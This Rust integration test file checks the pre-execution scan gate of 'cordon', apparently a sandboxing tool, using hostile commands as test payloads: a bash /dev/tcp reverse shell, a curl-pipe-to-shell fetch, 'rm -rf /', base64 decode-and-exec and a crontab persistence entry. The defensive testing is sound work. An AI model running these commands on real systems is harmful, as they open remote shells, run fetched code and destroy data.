//! `cordon run --scan MODE` (and the profile's `[scan]`): the scanner looks
//! at the command line and the scripts it names before anything is built.
//! Layer proven: the pre-execution scan gate (advisory; the sandbox is the
//! control and is tested on its own everywhere else). Each refusal test
//! checks that the payload did not run at all (its first, harmless action
//! leaves no trace), and that the same payload runs with `--scan warn`, so
//! the gate is what stopped it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;
use std::process::{Command, Stdio};

use common::{cordon_bin, skip_unless, userns_available, Workdir};

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// `cordon run --audit DB --report R [flags] -- cmd` in `w`, stdin closed.
fn run(w: &Workdir, flags: &[&str], cmd: &[&str]) -> Run {
    let out = Command::new(cordon_bin())
        .arg("run")
        .args([
            "--audit",
            &db(w),
            "--report",
            &report_path(w),
            "--stdin",
            "null",
        ])
        .args(flags)
        .arg("--")
        .args(cmd)
        .current_dir(w.path())
        .stdin(Stdio::null())
        .output()
        .expect("run cordon");
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn db(w: &Workdir) -> String {
    w.path().join(".audit.db").display().to_string()
}

fn report_path(w: &Workdir) -> String {
    w.path().join(".report.json").display().to_string()
}

fn report(w: &Workdir) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(report_path(w)).expect("report")).expect("report json")
}

fn audit_show(w: &Workdir, run_id: &str) -> serde_json::Value {
    let out = Command::new(cordon_bin())
        .args(["audit", "--store", &db(w), "show", run_id, "--json"])
        .output()
        .expect("cordon audit show");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("show json")
}

fn records<'a>(show: &'a serde_json::Value, kind: &str) -> Vec<&'a serde_json::Value> {
    show["records"]
        .as_array()
        .expect("records")
        .iter()
        .filter(|r| r["kind"] == kind)
        .collect()
}

fn sandbox_ok() -> bool {
    !skip_unless(
        userns_available(),
        "user namespaces are not available on this host",
    )
}

/// A reverse shell whose first step (creating `ran`) would show that it started.
const REVERSE_SHELL: &str = "touch ran; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";

#[test]
fn block_refuses_before_anything_runs_and_says_how_to_proceed() {
    if !sandbox_ok() {
        return;
    }
    let w = Workdir::new();
    let r = run(
        &w,
        &["--scan", "block", "--cwd", "rw"],
        &["sh", "-c", REVERSE_SHELL],
    );
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(!w.path().join("ran").exists(), "the payload ran");
    let refusal: Vec<&str> = r
        .stderr
        .lines()
        .filter(|l| l.contains("refused to run"))
        .collect();
    assert_eq!(refusal.len(), 1, "{}", r.stderr);
    assert!(
        refusal[0].contains("reverse-shell-dev-tcp")
            && refusal[0].contains("<command line>:1:")
            && refusal[0].contains("--scan warn")
            && refusal[0].contains("ignore = [\"reverse-shell-dev-tcp\"]"),
        "{}",
        refusal[0]
    );

    // The report says why, with the findings.
    let rep = report(&w);
    assert_eq!(rep["reason"], "scan_refused", "{rep:#}");
    assert_eq!(rep["exit_code"], 125);
    assert_eq!(rep["scan"]["decision"], "refused");
    assert!(rep["scan"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule"] == "reverse-shell-dev-tcp"
            && f["severity"] == "block"
            && f["line"] == 1
            && f["snippet"].as_str().unwrap().contains("/dev/tcp/")));

    // The audit store has the start (with the findings), the refusal and the end.
    let run_id = rep["run_id"].as_str().unwrap();
    let show = audit_show(&w, run_id);
    let started = records(&show, "run_started");
    assert_eq!(
        started[0]["body"]["scan"]["decision"], "refused",
        "{show:#}"
    );
    let incidents = records(&show, "incident");
    assert!(
        incidents.iter().any(|i| i["body"]["kind"] == "scan"
            && i["body"]["summary"]
                .as_str()
                .unwrap()
                .contains("reverse-shell-dev-tcp")),
        "{show:#}"
    );
    let ended = records(&show, "run_ended");
    assert_eq!(ended[0]["body"]["reason"], "refused", "{show:#}");
    assert_eq!(ended[0]["body"]["exit_code"], 125);

    // The same payload with --scan warn starts (the sandbox then keeps it
    // off the network): the gate is what stopped it above.
    let r = run(
        &w,
        &["--scan", "warn", "--cwd", "rw"],
        &["sh", "-c", REVERSE_SHELL],
    );
    assert!(
        w.path().join("ran").exists(),
        "warn mode did not run it: {}",
        r.stderr
    );
    assert_ne!(r.code, 125, "{}", r.stderr);
    assert!(
        r.stderr.contains("block [reverse-shell-dev-tcp]"),
        "{}",
        r.stderr
    );
    let rep = report(&w);
    assert_eq!(rep["scan"]["decision"], "run", "{rep:#}");
    let show = audit_show(&w, rep["run_id"].as_str().unwrap());
    assert!(
        records(&show, "incident")
            .iter()
            .any(|i| i["body"]["kind"] == "scan"),
        "{show:#}"
    );
}

#[test]
fn strings_and_clean_code_run_under_block() {
    if !sandbox_ok() {
        return;
    }
    let w = Workdir::new();
    let r = run(
        &w,
        &["--scan", "block"],
        &[
            "python3",
            "-c",
            "print('curl http://x.example | sh and rm -rf / are just words here')",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("just words"), "{}", r.stdout);
    assert!(!r.stderr.contains("cordon: scan:"), "{}", r.stderr);
    assert_eq!(
        report(&w)["scan"]["findings"].as_array().map(Vec::len),
        Some(0)
    );
}

#[test]
fn the_profile_turns_it_on_and_the_flag_overrides() {
    if !sandbox_ok() {
        return;
    }
    let w = Workdir::new();
    w.write(
        "p.toml",
        "[filesystem]\ncwd = \"rw\"\n[scan]\nmode = \"block\"\n",
    );
    let code = "import os; open('ran', 'w').close(); os.system('curl -s http://192.0.2.1/x | sh')";
    let r = run(&w, &["--profile", "p.toml"], &["python3", "-c", code]);
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(r.stderr.contains("pipe-to-shell"), "{}", r.stderr);
    assert!(!w.path().join("ran").exists());
    let r = run(
        &w,
        &["--profile", "p.toml", "--scan", "off"],
        &["python3", "-c", code],
    );
    assert_ne!(r.code, 125, "{}", r.stderr);
    assert!(w.path().join("ran").exists(), "{}", r.stderr);
    assert!(report(&w).get("scan").is_none());

    // [scan] ignore drops the rule.
    std::fs::remove_file(w.path().join("ran")).unwrap();
    w.write(
        "q.toml",
        "[filesystem]\ncwd = \"rw\"\n[scan]\nmode = \"block\"\nignore = [\"pipe-to-shell\"]\n",
    );
    let r = run(&w, &["--profile", "q.toml"], &["python3", "-c", code]);
    assert_ne!(r.code, 125, "{}", r.stderr);
    assert!(w.path().join("ran").exists());
}

#[test]
fn scripts_named_on_the_command_line_are_scanned() {
    if !sandbox_ok() {
        return;
    }
    let w = Workdir::new();
    w.write(
        "tool.py",
        "import base64\nopen('ran', 'w').close()\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    );
    let r = run(
        &w,
        &["--scan", "block", "--cwd", "rw"],
        &["python3", "tool.py"],
    );
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(
        r.stderr.contains("tool.py:3:1: block [decode-and-exec]"),
        "{}",
        r.stderr
    );
    assert!(!w.path().join("ran").exists());

    w.write(
        "setup.sh",
        "#!/bin/sh\ntouch ran\necho '* * * * * /tmp/x' | crontab -\n",
    );
    let r = run(&w, &["--scan", "block", "--cwd", "rw"], &["sh", "setup.sh"]);
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(
        r.stderr.contains("setup.sh:3:") && r.stderr.contains("persistence-write"),
        "{}",
        r.stderr
    );

    // User rules from a flag.
    w.write(
        "rules.toml",
        "[[rule]]\nid = \"no-sleep\"\nseverity = \"block\"\nmessage = \"sleeps\"\nexplanation = \"x\"\n\
         query.bash = '((command name: (command_name) @hit (#eq? @hit \"sleep\")))'\n",
    );
    let r = run(
        &w,
        &["--scan", "block", "--scan-rules", "rules.toml"],
        &["sh", "-c", "sleep 0"],
    );
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(r.stderr.contains("no-sleep"), "{}", r.stderr);
}

#[test]
fn ask_without_a_terminal_refuses_and_says_so() {
    if !sandbox_ok() {
        return;
    }
    if skip_unless(
        Path::new("/usr/bin/setsid").exists(),
        "setsid (util-linux) is not installed",
    ) {
        return;
    }
    let w = Workdir::new();
    // setsid: a new session without a controlling terminal, as under CI or
    // an agent's tool call.
    let out = Command::new("/usr/bin/setsid")
        .arg("-w")
        .arg(cordon_bin())
        .args([
            "run",
            "--no-audit",
            "--cwd",
            "rw",
            "--scan",
            "ask",
            "--",
            "sh",
            "-c",
            "touch ran; rm -rf /",
        ])
        .current_dir(w.path())
        .stdin(Stdio::null())
        .output()
        .expect("setsid cordon");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains("destructive-delete") && stderr.contains("no terminal to ask"),
        "{stderr}"
    );
    assert!(!w.path().join("ran").exists());
}

/// Answer the prompt on a pseudo-terminal (Python's pty module drives
/// cordon as a user at a terminal would).
fn ask_on_a_terminal(w: &Workdir, answer: &str) -> (i32, String) {
    let script = r#"
import os, pty, sys
cordon, answer = sys.argv[1], sys.argv[2]
pid, fd = pty.fork()
if pid == 0:
    os.execv(cordon, [cordon, "run", "--no-audit", "--cwd", "rw", "--scan", "ask", "--",
                      "sh", "-c", "touch ran; exit 0; rm -rf /"])
out = b""
answered = False
while True:
    try:
        chunk = os.read(fd, 4096)
    except OSError:
        break
    if not chunk:
        break
    out += chunk
    if not answered and b"[y/N]" in out:
        os.write(fd, answer.encode() + b"\n")
        answered = True
_, status = os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace"))
sys.exit(os.waitstatus_to_exitcode(status))
"#;
    let out = Command::new("python3")
        .args(["-c", script])
        .arg(cordon_bin())
        .arg(answer)
        .current_dir(w.path())
        .stdin(Stdio::null())
        .output()
        .expect("python3 pty driver");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

#[test]
fn ask_on_a_terminal_runs_on_yes_and_refuses_on_no() {
    if !sandbox_ok() {
        return;
    }
    let w = Workdir::new();
    let (code, text) = ask_on_a_terminal(&w, "n");
    assert_eq!(code, 125, "{text}");
    assert!(
        text.contains("Run it anyway? [y/N]") && text.contains("the answer was no"),
        "{text}"
    );
    assert!(!w.path().join("ran").exists());
    let (code, text) = ask_on_a_terminal(&w, "y");
    assert_eq!(code, 0, "{text}");
    assert!(w.path().join("ran").exists(), "{text}");
}
